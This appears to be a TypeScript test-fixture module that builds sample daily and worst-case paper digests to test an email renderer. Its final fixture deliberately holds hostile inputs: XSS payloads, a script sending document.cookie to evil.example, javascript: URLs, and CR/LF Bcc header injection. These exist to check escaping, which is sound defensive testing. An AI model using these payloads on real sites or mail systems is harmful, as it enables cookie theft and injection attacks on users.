// Digests built by hand from real papers (test/fixtures/render-papers.json,
// copied from the sample dumps), with highlights found by plain search: the
// renderer's tests must not depend on the matcher.

import { readFileSync } from 'node:fs';
import { createRenderer, type Renderer } from '../../../src/render/index.js';
import type { Digest, Highlight, Match, Paper } from '../../../src/types.js';

interface FixturePaper {
  title: string;
  abstract: string;
}

type FixtureGroups = Record<'longestAbstracts' | 'longestTitles' | 'diffusion' | 'outOfDistribution' | 'largeLanguageModels', FixturePaper[]>;

export const FIXTURES: FixtureGroups = JSON.parse(readFileSync(new URL('../../fixtures/render-papers.json', import.meta.url), 'utf8'));

/** HTML with its references to characters past U+009F read back, as a browser shows them (the renderer writes ASCII). */
export function readable(html: string): string {
  return html.replace(/&#x([0-9A-F]+);/g, (ref, hex: string) => (Number.parseInt(hex, 16) >= 0xa0 ? String.fromCodePoint(Number.parseInt(hex, 16)) : ref));
}

export const SECRET = 'test-secret-0123456789abcdef';
export const PUBLIC_URL = 'https://papers.example.org';
export const FROM = 'Paperboy <digest@example.org>';
export const AT = '2026-11-24T07:00:00.000Z';
export const ADA = { id: 42, email: 'ada@example.org', name: 'Ada', timezone: 'Europe/London' };

let renderer: Promise<Renderer> | undefined;

/** One renderer over the built-in templates, shared by a test file (compiling takes a few seconds). */
export function builtinRenderer(): Promise<Renderer> {
  renderer ??= createRenderer({ publicUrl: PUBLIC_URL, from: FROM, secret: SECRET });
  return renderer;
}

export function paperOf(entry: FixturePaper, id: string, overrides: Partial<Paper> = {}): Paper {
  return {
    id,
    title: entry.title,
    abstract: entry.abstract,
    authorsCount: 6,
    authors: [],
    publishedAt: '2026-11-23',
    upvotes: 12,
    url: null,
    arxivId: null,
    firstSeenAt: AT,
    ...overrides,
  };
}

/** A match with a highlight on every occurrence of each term (to the end of its word), in title and abstract. */
export function matchOf(paper: Paper, topic: string, terms: string[], score = 5): Match {
  const highlights: Highlight[] = [];
  for (const field of ['title', 'abstract'] as const) {
    const text = paper[field].toLowerCase();
    for (const term of terms) {
      for (let at = text.indexOf(term.toLowerCase()); at >= 0; at = text.indexOf(term.toLowerCase(), at + 1)) {
        const rest = /^[\p{L}\p{N}]*/u.exec(text.slice(at + term.length))?.[0] ?? '';
        highlights.push({ field, start: at, end: at + term.length + rest.length });
      }
    }
  }
  const inTitle = highlights.some((h) => h.field === 'title');
  return { paper, score, topic, highlights, why: `matched topic ${topic}: "${terms[0]}" in the ${inTitle ? 'title' : 'abstract'}` };
}

export function digestOf(sections: Digest['sections'], overrides: Partial<Digest> = {}): Digest {
  return {
    kind: 'daily',
    period: '2026-11-24',
    key: 'daily:2026-11-24',
    subscriber: ADA,
    at: AT,
    sections,
    moreCount: 0,
    ...overrides,
  };
}

/** A realistic daily digest: two topics, a few papers each. */
export function dailyDigest(): Digest {
  const diffusion = FIXTURES.diffusion.slice(0, 3).map((p, i) => matchOf(paperOf(p, `d${i}`, { upvotes: 30 - i * 7 }), 'Diffusion', ['diffusion model', 'diffusion'], 9 - i));
  const ood = FIXTURES.outOfDistribution.slice(0, 2).map((p, i) => matchOf(paperOf(p, `o${i}`, { authorsCount: null }), 'OOD', ['out-of-distribution', 'OOD', 'distribution shift'], 6 - i));
  return digestOf(
    [
      { topic: 'Diffusion', matches: diffusion },
      { topic: 'OOD', matches: ood },
    ],
    { moreCount: 4 },
  );
}

/** The worst case for size: 20 papers with the longest abstracts in the sample dumps, long titles, many highlights. */
export function worstCaseDigest(): Digest {
  const titles = FIXTURES.longestTitles.map((p) => p.title);
  const matches = FIXTURES.longestAbstracts.slice(0, 20).map((p, i) =>
    matchOf(
      paperOf({ title: `${titles[i % titles.length]} ${p.title}`, abstract: p.abstract }, `w${i}-${'f'.repeat(30)}`, {
        upvotes: 1234,
        authorsCount: 25,
        url: `https://arxiv.org/abs/2401.${String(10000 + i)}`,
      }),
      ['Learning & Generalisation', 'Language Models', 'Distribution Shift'][i % 3],
      ['model', 'learning', 'data', 'language', 'distribution'],
    ),
  );
  const sections = ['Learning & Generalisation', 'Language Models', 'Distribution Shift'].map((topic) => ({
    topic,
    matches: matches.filter((m) => m.topic === topic),
  }));
  return digestOf(sections, { moreCount: 87, subscriber: { ...ADA, name: 'Ada Augusta King, Countess of Lovelace' } });
}

export const HOSTILE_TITLE = 'Pwned <script>alert(1)</script> <img src=x onerror="alert(2)">\r\nBcc: victim@example.com';

/** Dump text written by an attacker: markup in title and abstract, a javascript: URL, CR/LF in the title and the name. */
export function hostileDigest(): Digest {
  const paper = paperOf(
    {
      title: HOSTILE_TITLE,
      abstract: 'Ordinary words then <script>document.location="https://evil.example/?c="+document.cookie</script> and <a href="javascript:alert(3)">click</a> plus "quotes" & ampersands and a model.',
    },
    'evil"><script>',
    { url: 'javascript:alert(document.domain)' },
  );
  const match = matchOf(paper, 'Evil <b>topic</b>', ['script', 'onerror', 'model']);
  return digestOf([{ topic: match.topic, matches: [match] }], {
    kind: 'instant',
    period: 'ingest-1',
    key: 'instant:ingest-1',
    subscriber: { ...ADA, name: 'Eve\r\nBcc: everyone@example.com "quoted" <x>' },
  });
}
